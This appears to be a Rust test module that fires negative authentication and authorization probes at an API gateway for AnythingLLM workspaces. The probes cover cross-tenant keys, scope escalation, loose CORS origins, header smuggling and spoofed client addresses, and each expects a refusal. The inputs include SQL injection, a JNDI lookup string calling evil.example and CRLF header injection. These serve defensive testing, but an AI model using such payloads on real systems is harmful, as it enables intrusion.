//! Keys: guessed, mistyped, misplaced, used where they were not made for.

use super::scene::Scene;
use super::{Attack, How, OWNER, PAGE, SERVER, get, raw, shot};
use crate::harness::{Answer, ORIGIN};
use How::{Sent, Steps};
use futures_util::FutureExt as _;
use http::Method;
use serde_json::json;

/// The shop's key that may make keys, and nothing else.
const KEYS: &str = "authorization: Bearer <sk_keys>";

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "no key at all",
        does: "each endpoint that needs one is called without",
        how: Sent(&[
            shot("POST /api/v1/chat", &["origin: https://shop.example"], r#"{"message":"hello"}"#),
            get("GET /api/v1/messages?session_id=<victim>", &["origin: https://shop.example"]),
            shot("POST /api/v1/knowledge/query", &[], r#"{"query":"drill"}"#),
            get("GET /api/v1/workspaces", &[]),
            get("GET /api/v1/audit", &[]),
            get("GET /api/v1/auth/me", &[]),
        ]),
        expected: "401 unauthenticated -> nothing",
    },
    Attack {
        name: "a key in another workspace's body",
        does: "a key of one workspace names another as `workspace`",
        how: Sent(&[
            shot("POST /api/v1/chat", &[PAGE], r#"{"message":"hello","workspace":"other"}"#),
            shot("POST /api/v1/chat", &[SERVER], r#"{"message":"hello","workspace":"other"}"#),
            shot("POST /api/v1/knowledge/query", &[PAGE], r#"{"query":"drill","workspace":"other"}"#),
            get("GET /api/v1/messages?session_id=x&workspace=other", &[PAGE]),
            shot("DELETE /api/v1/messages?session_id=x&workspace=other", &[PAGE], ""),
        ]),
        expected: "404 not_found -> nothing",
    },
    Attack {
        name: "a key in another workspace's path",
        does: "a secret key with every scope, bound to one workspace, reads, changes and removes another",
        how: Sent(&[
            get("GET /api/v1/workspaces/other", &[SERVER]),
            shot("PATCH /api/v1/workspaces/other", &[SERVER, "if-match: *"], r#"{"name":"mine"}"#),
            shot("DELETE /api/v1/workspaces/other?purge=true", &[SERVER, "if-match: *"], ""),
            get("GET /api/v1/workspaces/other/store", &[SERVER]),
            get("GET /api/v1/workspaces/other/members", &[SERVER]),
            get("GET /api/v1/workspaces/other/store/runs", &[SERVER]),
        ]),
        expected: "404 not_found -> nothing",
    },
    Attack {
        name: "another tenant's key",
        does: "a secret key with every scope and all workspaces of its tenant, in a workspace of another tenant",
        how: Sent(&[
            get("GET /api/v1/workspaces/shop", &["authorization: Bearer <sk_foreign>"]),
            shot(
                "POST /api/v1/chat",
                &["authorization: Bearer <sk_foreign>"],
                r#"{"message":"hello","workspace":"shop"}"#,
            ),
            shot("DELETE /api/v1/workspaces/shop", &["authorization: Bearer <sk_foreign>", "if-match: *"], ""),
            get("GET /api/v1/messages?session_id=<victim>&workspace=shop", &["authorization: Bearer <sk_foreign>"]),
        ]),
        expected: "404 not_found -> nothing",
    },
    Attack {
        name: "a bound key makes a workspace",
        does: "a key of one workspace asks for a further one, or adopts one of AnythingLLM's",
        how: Sent(&[
            shot("POST /api/v1/workspaces", &[SERVER], r#"{"name":"mine","platform":"custom"}"#),
            shot(
                "POST /api/v1/workspaces",
                &[SERVER],
                r#"{"name":"mine","platform":"custom","upstream_slug":"second"}"#,
            ),
        ]),
        expected: "403 forbidden -> nothing",
    },
    Attack {
        name: "a key makes a key that may do more",
        does: "a key with `keys:write` alone hands out other scopes, or all that a new key has by itself",
        how: Sent(&[
            shot("POST /api/v1/keys", &[KEYS], r#"{"kind":"secret","name":"mine","scopes":["workspaces:write"]}"#),
            shot(
                "POST /api/v1/keys",
                &[KEYS],
                r#"{"kind":"secret","name":"mine","scopes":["keys:write","chat:write"]}"#,
            ),
            shot(
                "POST /api/v1/keys",
                &[KEYS],
                r#"{"kind":"publishable","name":"mine","scopes":["chat:write"],"allowed_origins":["https://evil.example"]}"#,
            ),
        ]),
        expected: "403 insufficient_scope -> nothing",
    },
    Attack {
        name: "a bound key makes a key elsewhere",
        does: "a key of one workspace asks for a key of another",
        how: Sent(&[
            shot(
                "POST /api/v1/keys",
                &[SERVER],
                r#"{"kind":"secret","name":"mine","workspace":"other","scopes":["chat:write"]}"#,
            ),
            shot(
                "POST /api/v1/keys",
                &[SERVER],
                r#"{"kind":"secret","name":"mine","workspace":"second-shop","scopes":["chat:write"]}"#,
            ),
            shot(
                "POST /api/v1/keys",
                &[SERVER],
                r#"{"kind":"secret","name":"mine","workspace":"../other","scopes":["chat:write"]}"#,
            ),
        ]),
        expected: "422 validation_failed -> nothing",
    },
    Attack {
        name: "keys of others",
        does: "shown, changed, rotated and revoked by their ids, which stand in pages: of another workspace, and of \
               another tenant",
        how: Steps(|scene| keys_of_others(scene).boxed()),
        expected: "404 not_found -> nothing",
    },
    Attack {
        name: "a key for every page",
        does: "origins that would let strangers in, and `localhost` for a live key",
        how: Sent(&[
            shot(
                "POST /api/v1/keys",
                &[OWNER],
                r#"{"kind":"publishable","name":"x","workspace":"shop","allowed_origins":["*"]}"#,
            ),
            shot(
                "POST /api/v1/keys",
                &[OWNER],
                r#"{"kind":"publishable","name":"x","workspace":"shop","allowed_origins":["https://*.com"]}"#,
            ),
            shot(
                "POST /api/v1/keys",
                &[OWNER],
                r#"{"kind":"publishable","name":"x","workspace":"shop","allowed_origins":["https://*.myshopify.com"]}"#,
            ),
            shot(
                "POST /api/v1/keys",
                &[OWNER],
                r#"{"kind":"publishable","name":"x","workspace":"shop","allowed_origins":["null"]}"#,
            ),
            shot(
                "POST /api/v1/keys",
                &[OWNER],
                r#"{"kind":"publishable","name":"x","workspace":"shop","allowed_origins":["http://localhost:*"]}"#,
            ),
            shot(
                "POST /api/v1/keys",
                &[OWNER],
                r#"{"kind":"publishable","name":"x","workspace":"shop","allowed_origins":["https://shop.example\r\nx: y"]}"#,
            ),
            shot(
                "POST /api/v1/keys",
                &[OWNER],
                r#"{"kind":"publishable","name":"x","workspace":"shop","allowed_origins":[]}"#,
            ),
            shot(
                "POST /api/v1/keys",
                &[OWNER],
                r#"{"kind":"publishable","name":"x","workspace":"shop","scopes":["keys:write"],"allowed_origins":["https://shop.example"]}"#,
            ),
        ]),
        expected: "422 validation_failed -> nothing",
    },
    Attack {
        name: "a publishable key on management routes",
        does: "the key that stands in the page reads and changes workspaces, stores and members",
        how: Sent(&[
            get("GET /api/v1/workspaces", &[PAGE]),
            shot("POST /api/v1/workspaces", &[PAGE], r#"{"name":"mine","platform":"custom"}"#),
            get("GET /api/v1/workspaces/shop", &[PAGE]),
            shot("PATCH /api/v1/workspaces/shop", &[PAGE, "if-match: *"], r#"{"name":"mine"}"#),
            shot("DELETE /api/v1/workspaces/shop?purge=true", &[PAGE, "if-match: *"], ""),
            shot("POST /api/v1/workspaces/shop/sync", &[PAGE], r#"{"take":"vestibule"}"#),
            get("GET /api/v1/workspaces/shop/store", &[PAGE]),
            shot(
                "PUT /api/v1/workspaces/shop/store",
                &[PAGE],
                r#"{"platform":"custom","store_url":"https://shop.example"}"#,
            ),
            shot("POST /api/v1/workspaces/shop/store/sync", &[PAGE], "{}"),
            get("GET /api/v1/workspaces/shop/members", &[PAGE]),
            shot("PUT /api/v1/workspaces/shop/members/1", &[PAGE], ""),
            get("GET /api/v1/keys", &[PAGE]),
            shot("POST /api/v1/keys", &[PAGE], r#"{"kind":"secret","name":"mine"}"#),
        ]),
        expected: "403 insufficient_scope -> nothing",
    },
    Attack {
        name: "a key where people are asked for",
        does: "keys of both kinds call what only somebody who has logged in may",
        how: Sent(&[
            get("GET /api/v1/auth/me", &[PAGE]),
            get("GET /api/v1/auth/me", &[OWNER]),
            get("GET /api/v1/auth/sessions", &[OWNER]),
            shot("POST /api/v1/auth/ui-link", &[OWNER], "{}"),
            get("GET /api/v1/audit", &[OWNER]),
            get("GET /api/v1/audit", &[PAGE]),
        ]),
        expected: "403 forbidden -> nothing",
    },
    Attack {
        name: "a key without the scope",
        does: "a publishable key with `widget:read` alone chats, reads messages and searches",
        how: Sent(&[
            shot(
                "POST /api/v1/chat",
                &["authorization: Bearer <pk_narrow>\r\norigin: https://shop.example"],
                r#"{"message":"hello"}"#,
            ),
            get(
                "GET /api/v1/messages?session_id=x",
                &["authorization: Bearer <pk_narrow>\r\norigin: https://shop.example"],
            ),
            shot(
                "POST /api/v1/knowledge/query",
                &["authorization: Bearer <pk_narrow>\r\norigin: https://shop.example"],
                r#"{"query":"drill"}"#,
            ),
            shot(
                "POST /api/embed/<pk_narrow>/stream-chat",
                &["origin: https://shop.example"],
                r#"{"sessionId":"<session>","message":"hello"}"#,
            ),
        ]),
        expected: "403 insufficient_scope -> nothing",
    },
    Attack {
        name: "a secret key from a browser",
        does: "a secret key comes with an `Origin`, be it an allowed one, `null`, or that of the gateway's own pages",
        how: Sent(&[
            shot("POST /api/v1/chat", &[SERVER, "origin: https://shop.example"], r#"{"message":"hello"}"#),
            get("GET /api/v1/workspaces", &[OWNER, "origin: https://shop.example"]),
            get("GET /api/v1/messages?session_id=x", &[SERVER, "origin: null"]),
            get("GET /api/v1/messages?session_id=x", &[SERVER, "origin: https://chat.example"]),
        ]),
        expected: "401 invalid_token -> nothing",
    },
    Attack {
        name: "a secret key from a browser, with an unreadable origin",
        does: "the `Origin` beside the secret key is made unreadable, so that it might count as missing",
        how: Sent(&[
            get("GET /api/v1/messages?session_id=x", &[SERVER, "origin: "]),
            get("GET /api/v1/messages?session_id=x", &[SERVER, "origin: file://"]),
            get("GET /api/v1/messages?session_id=x", &[SERVER, "origin: https://shop.example/"]),
        ]),
        expected: "403 forbidden_origin -> nothing",
    },
    Attack {
        name: "a secret key where publishable ones belong",
        does: "in `X-Widget-Key`, and in the path of the widget",
        how: Sent(&[
            shot("POST /api/v1/chat", &["x-widget-key: <sk>"], r#"{"message":"hello"}"#),
            shot(
                "POST /api/embed/<sk>/stream-chat",
                &["origin: https://shop.example"],
                r#"{"sessionId":"<session>","message":"hello"}"#,
            ),
            get("GET /api/embed/<sk>/<victim>", &["origin: https://shop.example"]),
        ]),
        expected: "401 invalid_token -> nothing",
    },
    Attack {
        name: "a key in the address or in a cookie",
        does: "where logs, referrers and other pages would see or send it",
        how: Sent(&[
            get("GET /api/v1/messages?session_id=x&key=<sk>", &[]),
            get("GET /api/v1/messages?session_id=x&api_key=<sk>", &[]),
            get("GET /api/v1/messages?session_id=x&access_token=<sk>", &[]),
            get("GET /api/v1/messages?session_id=x", &["cookie: authorization=Bearer <sk>; key=<sk>"]),
            get("GET /api/v1/messages?session_id=x", &["x-api-key: <sk>"]),
            get("GET /api/v1/messages?session_id=x", &["proxy-authorization: Bearer <sk>"]),
        ]),
        expected: "401 unauthenticated -> nothing",
    },
    Attack {
        name: "a key under another scheme",
        does: "AnythingLLM takes its key behind any word; we do not",
        how: Sent(&[
            get("GET /api/v1/messages?session_id=x", &["authorization: Basic <sk>"]),
            get("GET /api/v1/messages?session_id=x", &["authorization: Token <sk>"]),
            get("GET /api/v1/messages?session_id=x", &["authorization: <sk>"]),
            get("GET /api/v1/messages?session_id=x", &["authorization: Bearer <sk> <sk>"]),
            get("GET /api/v1/messages?session_id=x", &["authorization: Bearer\t<sk>"]),
            get("GET /api/v1/messages?session_id=x", &["authorization: Bearer \"<sk>\""]),
        ]),
        expected: "401 invalid_token -> nothing",
    },
    Attack {
        name: "two credentials",
        does: "a good one beside another, in case one is checked and the other used",
        how: Sent(&[
            get("GET /api/v1/messages?session_id=x", &[SERVER, "x-widget-key: <pk>"]),
            get("GET /api/v1/messages?session_id=x", &[SERVER, OWNER]),
            get("GET /api/v1/messages?session_id=x", &["authorization: Bearer <unknown>", SERVER]),
            get(
                "GET /api/v1/messages?session_id=x",
                &["x-widget-key: <pk>", "x-widget-key: <pk_other>", "origin: https://shop.example"],
            ),
        ]),
        expected: "400 bad_request -> nothing",
    },
    Attack {
        name: "a key with another secret",
        does: "the public part of a real key, a secret of one's own, and the checksum that fits",
        how: Sent(&[
            get(
                "GET /api/v1/messages?session_id=x",
                &["authorization: Bearer <wrong_secret>", "origin: https://shop.example"],
            ),
            get("GET /api/embed/<wrong_secret>/<victim>", &["origin: https://shop.example"]),
        ]),
        expected: "401 invalid_token -> nothing",
    },
    Attack {
        name: "a key made up or changed",
        does: "well-formed and unknown; of the other kind; of the other environment; in lower case; mistyped",
        how: Sent(&[
            get(
                "GET /api/v1/messages?session_id=x",
                &["authorization: Bearer <unknown>", "origin: https://shop.example"],
            ),
            get("GET /api/v1/workspaces", &["authorization: Bearer <as_secret>"]),
            get(
                "GET /api/v1/messages?session_id=x",
                &["authorization: Bearer <as_live>", "origin: https://shop.example"],
            ),
            get(
                "GET /api/v1/messages?session_id=x",
                &["authorization: Bearer <lower>", "origin: https://shop.example"],
            ),
            get(
                "GET /api/v1/messages?session_id=x",
                &["authorization: Bearer <mistyped>", "origin: https://shop.example"],
            ),
            get("GET /api/v1/messages?session_id=x", &["authorization: Bearer <pk>0", "origin: https://shop.example"]),
        ]),
        expected: "401 invalid_token -> nothing",
    },
    Attack {
        name: "SQL and wildcards as a key",
        does: "texts that mean something to a database, a shell or a template",
        how: Sent(&[
            get("GET /api/v1/messages?session_id=x", &["authorization: Bearer ' OR '1'='1"]),
            get("GET /api/v1/messages?session_id=x", &["authorization: Bearer vst_pk_test_%"]),
            get("GET /api/v1/messages?session_id=x", &["authorization: Bearer *"]),
            get("GET /api/v1/messages?session_id=x", &["authorization: Bearer ${jndi:ldap://evil.example/x}"]),
            get("GET /api/v1/messages?session_id=x", &["authorization: Bearer <x20000>"]),
            get("GET /api/v1/messages?session_id=x", &["authorization: Bearer <ff><c0af>"]),
            get("GET /api/v1/messages?session_id=x", &["x-widget-key: <ff>"]),
        ]),
        expected: "401 invalid_token -> nothing",
    },
    Attack {
        name: "a revoked key",
        does: "on the API and on the widget's paths",
        how: Sent(&[
            shot(
                "POST /api/v1/chat",
                &["authorization: Bearer <pk_revoked>\r\norigin: https://shop.example"],
                r#"{"message":"hello"}"#,
            ),
            get("GET /api/embed/<pk_revoked>/<victim>", &["origin: https://shop.example"]),
        ]),
        expected: "401 key_revoked -> nothing",
    },
    Attack {
        name: "an expired key",
        does: "after its end",
        how: Sent(&[shot(
            "POST /api/v1/chat",
            &["authorization: Bearer <pk_expired>\r\norigin: https://shop.example"],
            r#"{"message":"hello"}"#,
        )]),
        expected: "401 key_expired -> nothing",
    },
    Attack {
        name: "a key that is switched off",
        does: "while it is off",
        how: Sent(&[shot(
            "POST /api/v1/chat",
            &["authorization: Bearer <pk_disabled>\r\norigin: https://shop.example"],
            r#"{"message":"hello"}"#,
        )]),
        expected: "401 key_disabled -> nothing",
    },
    Attack {
        name: "AnythingLLM's own key",
        does: "the key that opens everything there, in the hands of somebody outside",
        how: Sent(&[
            get("GET /api/v1/workspaces", &["authorization: Bearer <upstream_key>"]),
            shot(
                "POST /api/v1/chat",
                &["authorization: Bearer <upstream_key>"],
                r#"{"message":"hello","workspace":"shop"}"#,
            ),
            get("GET /api/v1/messages?session_id=x", &["x-widget-key: <upstream_key>", "origin: https://shop.example"]),
        ]),
        expected: "401 invalid_token -> nothing",
    },
    Attack {
        name: "unknown, wrong and mistyped keys told apart",
        does: "the three answers are compared byte by byte, their request ids aside, on the API and on the widget's paths",
        how: Steps(|scene| refusals_compared(scene).boxed()),
        expected: "401, one answer for all -> nothing",
    },
    Attack {
        name: "another address by `X-Forwarded-For`",
        does: "a key with one request a minute for each address, and each request says it comes from elsewhere",
        how: Steps(|scene| addresses_made_up(scene).boxed()),
        expected: "200, then 429 rate_limited -> nothing",
    },
    Attack {
        name: "a key in the request line's user information",
        does: "`http://name:password@host` in the request line",
        how: Sent(&[raw(
            "GET http://x:<sk>@chat.example/api/v1/messages?session_id=x HTTP/1.1\r\nhost: chat.example\r\nconnection: close\r\n\r\n",
        )]),
        expected: "400 bad_request -> nothing",
    },
];

/// What is the same about every answer to this kind of refusal.
fn without_ids(answer: &Answer) -> (u16, Vec<(String, String)>, String) {
    let id = answer.header("x-request-id").unwrap();
    let fields = answer.headers.iter().filter(|(name, _)| *name != "date");
    let fields = fields.map(|(name, value)| (name.to_string(), value.to_str().unwrap().replace(id, "ID"))).collect();
    (answer.status.as_u16(), fields, answer.text().replace(id, "ID"))
}

async fn refusals_compared(scene: &Scene) -> String {
    let path = "/api/v1/messages?session_id=x";
    let mut told = Vec::new();
    let mut shown = Vec::new();
    for word in ["unknown", "wrong_secret", "mistyped", "as_live"] {
        told.push(without_ids(&scene.bearer(word).with("origin", ORIGIN).get(path).await));
        told.push(without_ids(
            &scene.process.public().with("x-widget-key", &scene.word(word)).with("origin", ORIGIN).get(path).await,
        ));
        let widget = scene.process.public().with("origin", ORIGIN);
        shown
            .push(without_ids(&widget.get(&format!("/api/embed/{}/{}", scene.word(word), scene.word("victim"))).await));
    }
    for answers in [&mut told, &mut shown] {
        answers.dedup();
        if answers.len() > 1 {
            return format!("told apart: {answers:#?}");
        }
    }
    format!("{}, one answer for all", told[0].0)
}

async fn addresses_made_up(scene: &Scene) -> String {
    let page = scene.bearer("pk_once").with("origin", ORIGIN);
    let mut told = Vec::new();
    for name in ["x-forwarded-for", "x-real-ip", "forwarded", "cf-connecting-ip", "true-client-ip", "x-client-ip"] {
        let text = if name == "forwarded" { "for=198.51.100.9" } else { "198.51.100.9" };
        let answer = page.with(name, text).get("/api/v1/messages?session_id=x").await;
        told.push(if answer.status == 200 {
            "200".to_owned()
        } else {
            format!("{} {}", answer.status.as_u16(), answer.code())
        });
    }
    told.dedup();
    told.join(", then ")
}

async fn keys_of_others(scene: &Scene) -> String {
    let public_id = |word: &str| scene.word(word)["vst_pk_test_".len()..][..12].to_owned();
    let mut told = Vec::new();
    for (by, of) in [
        ("sk", "pk_other"),
        ("sk_keys", "pk_other"),
        ("sk_foreign", "pk"),
        ("sk_foreign", "sk_all"),
        ("sk", "sk_foreign"),
    ] {
        let (http, path) = (scene.bearer(by), format!("/api/v1/keys/{}", public_id(of)));
        let answers = [
            if by == "sk_keys" {
                http.post(&format!("{path}/revoke"), &json!({})).await
            } else {
                http.get(&path).await
            },
            http.with("content-type", "application/json").send(Method::PATCH, &path, r#"{"enabled":false}"#).await,
            http.post(&format!("{path}/rotate"), &json!({"grace_seconds": 0})).await,
            http.post(&format!("{path}/revoke"), &json!({"reason": "mine"})).await,
        ];
        told.extend(answers.iter().map(|answer| format!("{} {}", answer.status.as_u16(), answer.code())));
    }
    told.dedup();
    told.join(" or ")
}
